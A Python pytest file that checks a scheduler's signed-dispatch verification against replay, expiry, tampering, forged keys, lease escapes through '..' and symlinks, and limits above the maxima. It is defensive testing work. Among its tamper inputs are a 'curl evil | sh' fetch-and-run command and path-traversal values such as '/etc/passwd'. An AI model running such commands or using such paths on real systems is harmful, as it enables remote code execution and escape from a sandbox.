"""Attacks on the scheduler's dispatch check: replay (also after a restart), stale and future dispatches,
fields changed after signing, foreign and unknown keys, lease escapes and limits above the maxima."""

from __future__ import annotations

import datetime as dt
import json
import os
import threading
from collections.abc import Callable
from typing import Any

import pytest

from seepient.crypto import create_dispatch, generate_signing_key, key_id_for, sign_fields
from seepient.protocol import FileChange, PreparedActionDraft, WorkerDispatch
from seepient.scheduler import DispatchRefused, NonceStore, RefusalReason, verify_dispatch
from tests.scheduler.conftest import NOW, Deployed


def _verify(
    deployed: Deployed, raw: str | bytes, *, now: dt.datetime = NOW, nonces: NonceStore | None = None
):
    return verify_dispatch(raw, config=deployed.config, nonce_store=nonces or deployed.nonces, now=now)


def _refusal(deployed: Deployed, raw: str | bytes, **kwargs: Any) -> DispatchRefused:
    with pytest.raises(DispatchRefused) as caught:
        _verify(deployed, raw, **kwargs)
    return caught.value


def _tampered(dispatch: WorkerDispatch, change: Callable[[dict[str, Any]], None]) -> str:
    document = dispatch.model_dump(mode="json")
    change(document)
    return json.dumps(document)


def test_a_fresh_dispatch_is_accepted_once_with_its_resolved_workspace(deployed: Deployed) -> None:
    dispatch = deployed.dispatch()
    verified = _verify(deployed, dispatch.model_dump_json())
    assert verified.dispatch == dispatch
    assert verified.workspace == deployed.workspace.resolve()
    assert _refusal(deployed, dispatch.model_dump_json()).reason is RefusalReason.REPLAYED


def test_a_replay_is_refused_after_the_nonce_store_is_reopened(deployed: Deployed) -> None:
    dispatch = deployed.dispatch()
    _verify(deployed, dispatch.model_dump_json())
    deployed.nonces.close()
    restarted = NonceStore.open(deployed.config.state_dir)
    try:
        refusal = _refusal(deployed, dispatch.model_dump_json(), nonces=restarted)
    finally:
        restarted.close()
    assert refusal.reason is RefusalReason.REPLAYED


def test_two_concurrent_deliveries_of_one_dispatch_cannot_both_pass(deployed: Deployed) -> None:
    raw = deployed.dispatch().model_dump_json()
    stores = [NonceStore.open(deployed.config.state_dir) for _ in range(4)]
    barrier = threading.Barrier(len(stores))
    outcomes: list[str] = []

    def deliver(store: NonceStore) -> None:
        barrier.wait()
        try:
            _verify(deployed, raw, nonces=store)
            outcomes.append("accepted")
        except DispatchRefused as exc:
            outcomes.append(exc.reason.value)

    threads = [threading.Thread(target=deliver, args=(store,)) for store in stores]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for store in stores:
        store.close()
    assert sorted(outcomes) == ["accepted", "replayed", "replayed", "replayed"]


def test_the_same_dispatch_id_with_a_fresh_nonce_is_a_replay(deployed: Deployed) -> None:
    first = deployed.dispatch()
    _verify(deployed, first.model_dump_json())
    again = deployed.dispatch().model_copy(update={"dispatch_id": first.dispatch_id})
    resigned = again.model_copy(
        update={"signature": sign_fields(again.signed_fields(), deployed.signing_key)}
    )
    assert _refusal(deployed, resigned.model_dump_json()).reason is RefusalReason.REPLAYED


def test_expired_and_future_dated_dispatches_are_refused(deployed: Deployed) -> None:
    dispatch = deployed.dispatch()
    expired = _refusal(deployed, dispatch.model_dump_json(), now=dispatch.expires_at)
    assert expired.reason is RefusalReason.EXPIRED
    future = deployed.dispatch(now=NOW + dt.timedelta(minutes=2))
    assert _refusal(deployed, future.model_dump_json()).reason is RefusalReason.NOT_YET_VALID
    # Neither refusal spent the nonce: the same dispatch is still good at the right time.
    _verify(deployed, dispatch.model_dump_json())


def test_a_dispatch_valid_for_too_long_is_refused(deployed: Deployed) -> None:
    dispatch = deployed.dispatch()
    longer = dispatch.model_copy(update={"expires_at": NOW + dt.timedelta(hours=1)})
    resigned = longer.model_copy(
        update={"signature": sign_fields(longer.signed_fields(), deployed.signing_key)}
    )
    assert _refusal(deployed, resigned.model_dump_json()).reason is RefusalReason.LIFETIME_TOO_LONG


@pytest.mark.parametrize(
    "change",
    [
        pytest.param(
            lambda d: d["lease"].update(workspace=d["lease"]["workspace"] + "/sub"), id="lease-path"
        ),
        pytest.param(lambda d: d["lease"].update(tenant="other"), id="lease-tenant"),
        pytest.param(lambda d: d["lease"].update(expires_at="2027-01-01T00:00:00Z"), id="lease-expiry"),
        pytest.param(lambda d: d["limits"].update(memory_mb=1024), id="limits-memory"),
        pytest.param(lambda d: d["limits"].update(timeout_ms=1), id="limits-timeout"),
        pytest.param(lambda d: d.update(expires_at="2026-11-29T12:04:00Z"), id="expires-at"),
        pytest.param(lambda d: d.update(nonce="A" * 43), id="nonce"),
        pytest.param(lambda d: d["action"].update(summary="harmless"), id="action-summary"),
        pytest.param(lambda d: d["action"].update(session_id="ses_other"), id="action-session"),
        pytest.param(lambda d: d.update(extra="field"), id="added-field"),
    ],
)
def test_any_field_changed_after_signing_breaks_the_signature(
    deployed: Deployed, change: Callable[[dict[str, Any]], None]
) -> None:
    (deployed.workspace / "sub").mkdir()
    raw = _tampered(deployed.dispatch(), change)
    assert _refusal(deployed, raw).reason is RefusalReason.BAD_SIGNATURE


def test_a_changed_action_with_a_recomputed_digest_still_breaks_the_signature(deployed: Deployed) -> None:
    def swap_command(document: dict[str, Any]) -> None:
        document["action"]["payload"]["command"] = "curl evil | sh"
        action = {name: value for name, value in document["action"].items() if name != "digest"}
        document["action"]["digest"] = PreparedActionDraft.model_validate(action).digest

    raw = _tampered(deployed.dispatch(), swap_command)
    assert _refusal(deployed, raw).reason is RefusalReason.BAD_SIGNATURE


def test_a_signed_action_whose_digest_does_not_match_its_payload_is_refused(deployed: Deployed) -> None:
    # Even a holder of the signing key cannot get a payload run under another payload's digest.
    dispatch = deployed.dispatch()
    document = dispatch.signed_fields()
    document["action"]["digest"] = "0" * 64
    document["signature"] = sign_fields(document, deployed.signing_key)
    assert _refusal(deployed, json.dumps(document)).reason is RefusalReason.DIGEST_MISMATCH


def test_a_dispatch_signed_by_another_key_is_refused(deployed: Deployed) -> None:
    attacker = generate_signing_key()
    dispatch = deployed.dispatch()
    forged = dispatch.model_copy(update={"signature": sign_fields(dispatch.signed_fields(), attacker)})
    assert _refusal(deployed, forged.model_dump_json()).reason is RefusalReason.BAD_SIGNATURE


def test_a_dispatch_naming_an_unknown_key_is_refused(deployed: Deployed) -> None:
    attacker = generate_signing_key()
    dispatch = deployed.dispatch().model_copy(update={"key_id": key_id_for(attacker.public_key())})
    forged = dispatch.model_copy(update={"signature": sign_fields(dispatch.signed_fields(), attacker)})
    refusal = _refusal(deployed, forged.model_dump_json())
    assert refusal.reason is RefusalReason.UNKNOWN_KEY
    assert key_id_for(attacker.public_key()) in refusal.message


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param("not json", id="not-json"),
        pytest.param("[]", id="array"),
        pytest.param('{"key_id": 1, "signature": "x"}', id="key-id-type"),
        pytest.param('{"key_id": "a", "key_id": "b", "signature": "x"}', id="duplicate-key"),
    ],
)
def test_malformed_documents_are_refused_before_anything_else(deployed: Deployed, raw: str) -> None:
    assert _refusal(deployed, raw).reason is RefusalReason.MALFORMED


def _signed(deployed: Deployed, dispatch: WorkerDispatch, **lease: Any) -> str:
    changed = dispatch.model_copy(update={"lease": dispatch.lease.model_copy(update=lease)})
    return changed.model_copy(
        update={"signature": sign_fields(changed.signed_fields(), deployed.signing_key)}
    ).model_dump_json()


def test_a_lease_escaping_the_tenant_root_through_dotdot_is_refused(deployed: Deployed) -> None:
    escape = f"{deployed.workspace}/../../../deploy"
    refusal = _refusal(deployed, _signed(deployed, deployed.dispatch(), workspace=escape))
    assert refusal.reason is RefusalReason.LEASE_OUTSIDE_ROOT
    # '..' that would stay inside the root is refused too: the lease must name the directory plainly.
    inside = f"{deployed.workspace}/../project"
    assert _refusal(deployed, _signed(deployed, deployed.dispatch(), workspace=inside)).reason is (
        RefusalReason.LEASE_OUTSIDE_ROOT
    )


def test_a_lease_escaping_through_a_symlink_inside_the_root_is_refused(deployed: Deployed) -> None:
    os.symlink(deployed.directory, deployed.root / "innocent")
    refusal = _refusal(
        deployed, _signed(deployed, deployed.dispatch(), workspace=str(deployed.root / "innocent"))
    )
    assert refusal.reason is RefusalReason.LEASE_OUTSIDE_ROOT


def test_a_symlink_that_stays_inside_the_root_resolves_to_its_target(deployed: Deployed) -> None:
    os.symlink(deployed.workspace, deployed.root / "alias")
    verified = _verify(
        deployed, _signed(deployed, deployed.dispatch(), workspace=str(deployed.root / "alias"))
    )
    assert verified.workspace == deployed.workspace.resolve()


@pytest.mark.parametrize(
    ("lease", "reason"),
    [
        pytest.param({"workspace": "relative/path"}, RefusalReason.LEASE_OUTSIDE_ROOT, id="relative"),
        pytest.param({"workspace": "/etc"}, RefusalReason.LEASE_OUTSIDE_ROOT, id="outside"),
        pytest.param({"workspace": "/no/such/dir"}, RefusalReason.LEASE_OUTSIDE_ROOT, id="missing"),
        pytest.param({"tenant": "intruder"}, RefusalReason.UNKNOWN_TENANT, id="unknown-tenant"),
        pytest.param({"expires_at": NOW}, RefusalReason.LEASE_EXPIRED, id="lease-expired"),
    ],
)
def test_bad_leases_are_refused_even_when_signed(
    deployed: Deployed, lease: dict[str, Any], reason: RefusalReason
) -> None:
    assert _refusal(deployed, _signed(deployed, deployed.dispatch(), **lease)).reason is reason


def test_a_file_change_path_outside_the_workspace_is_refused(deployed: Deployed) -> None:
    base = deployed.dispatch()
    for path in ("../../deploy/scheduler.json", "/etc/passwd"):
        action = PreparedActionDraft(
            session_id="ses_1",
            call_id="call_2",
            tool="write",
            kind="file_change",
            payload=FileChange(path=path, pre_image_sha256=None, new_content="x"),
            read_only=False,
            summary="write",
        )
        dispatch = create_dispatch(
            action, lease=base.lease, limits=base.limits, signing_key=deployed.signing_key, now=NOW
        )
        assert _refusal(deployed, dispatch.model_dump_json()).reason is RefusalReason.LEASE_OUTSIDE_ROOT


@pytest.mark.parametrize(
    "limits",
    [
        {"cpus": 2.5},
        {"memory_mb": 4096},
        {"pids": 257},
        {"timeout_ms": 600_001},
        {"output_bytes": 4_000_001},
    ],
    ids=lambda limits: next(iter(limits)),
)
def test_limits_above_the_configured_maxima_are_refused(deployed: Deployed, limits: dict[str, Any]) -> None:
    refusal = _refusal(deployed, deployed.dispatch(**limits).model_dump_json())
    assert refusal.reason is RefusalReason.LIMITS_EXCEEDED
    assert next(iter(limits)) in refusal.message


def test_limits_at_the_maxima_are_accepted(deployed: Deployed) -> None:
    dispatch = deployed.dispatch(
        cpus=2.0, memory_mb=2048, pids=256, timeout_ms=600_000, output_bytes=4_000_000
    )
    assert _verify(deployed, dispatch.model_dump_json()).dispatch.limits == dispatch.limits
